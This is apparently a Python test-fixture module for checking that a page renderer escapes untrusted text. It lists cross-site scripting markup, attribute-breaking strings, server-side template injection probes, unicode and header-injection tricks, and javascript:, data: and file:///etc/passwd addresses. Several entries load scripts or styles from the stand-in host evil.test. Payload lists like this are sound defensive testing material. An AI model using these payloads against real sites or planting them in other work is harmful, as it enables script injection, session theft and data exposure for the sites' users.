"""Words that would like to be a program, a link or another person's text.

Each calls `alert(…)` or asks for something at evil.test as soon as a page takes it for more
than words.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<script/x>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.test/pixel.gif>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:x onerror\n=\talert(1)//",
    "<img/src/onerror=alert(1)//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'; *{background:url(//evil.test/y)}</style>",
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "<form action=//evil.test/><input name=x autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<x id=x tabindex=1 onfocus=alert(1) autofocus>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>",
    "</td></tr></table></div></main></body></html><script>alert(1)</script>",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' onfocus='alert(1)' autofocus tabindex=1 x='",
    "x onerror=alert(1) autofocus onfocus=alert(1) ",
    "` onload=alert(1) `",
    '"style="background:url(//evil.test/z)',
    '" srcset="//evil.test/s 1x" x="',
    "&quot; onfocus=&quot;alert(1)",
    "&#34;&#62;&#60;img src=x onerror=alert(1)&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
)
TEMPLATES = (
    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{name}%(name)s%s{0}{t.__class__}",
    "{{constructor.constructor('alert(1)')()}}",
)
TRICKS = (
    "a\u2028alert(1)\u2029//",
    "\u202e)1(trela\u202c \u2066x\u2069",
    "\ufeff<script\u00a0>alert(1)</script>",
    "\u200b<\u200bscript>alert(1)",
    "</\u017fcript><\u017fcript>alert(1)</\u017fcript>",
    "<img src=x one\u0000rror=alert(1)>".replace("\0", "\x0c"),
    "\x1b[31m\x07\x08\x0b",
    "'; alert(1); '",
    '"}</script><script>alert(1)</script>{"',
    '","x":"</script><svg onload=alert(1)>',
    "\\');alert(1)//",
    "*/alert(1)/*",
    "<b><i>never closed",
    "</b></i></a></blockquote>",
    '<a href="tg://user?id=1">x</a><tg-spoiler>x</tg-spoiler>',
    "[x](javascript:alert(1)) <javascript:alert(1)> *_`[",
    "../../../etc/passwd\\..\\x.html",
    "\r\nSet-Cookie: a=1\r\n\r\n<script>alert(1)</script>",
)
WORDS = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *TRICKS)


def _bundled(words: tuple[str, ...], most: int) -> tuple[str, ...]:
    bundles = [""]
    for one in words:
        joined = f"{bundles[-1]} {one}".lstrip()
        if len(joined) <= most:
            bundles[-1] = joined
        else:
            bundles.append(one)
    return tuple(bundles)


# Several in one text, in as many characters as a title may have on a page: tests need fewer.
BUNDLES = _bundled(WORDS, 190)

# Addresses that are none, or that lead to a program: nobody may be able to tap them.
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript://news.example/%0aalert(1)",
    "&#106;avascript:alert(1)",
    "%6aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:http://news.example/x",
    "file:///etc/passwd",
    "view-source:http://news.example/",
    "//evil.test/x",
    "\\\\evil.test\\x",
    'http://news.example/"onfocus="alert(1)"autofocus="',
    "http://news.example/'><script>alert(1)</script>",
    "http://news.example/</script><script>alert(1)</script>",
    "http://[",
    "http://",
    "tg://resolve?domain=evil",
)
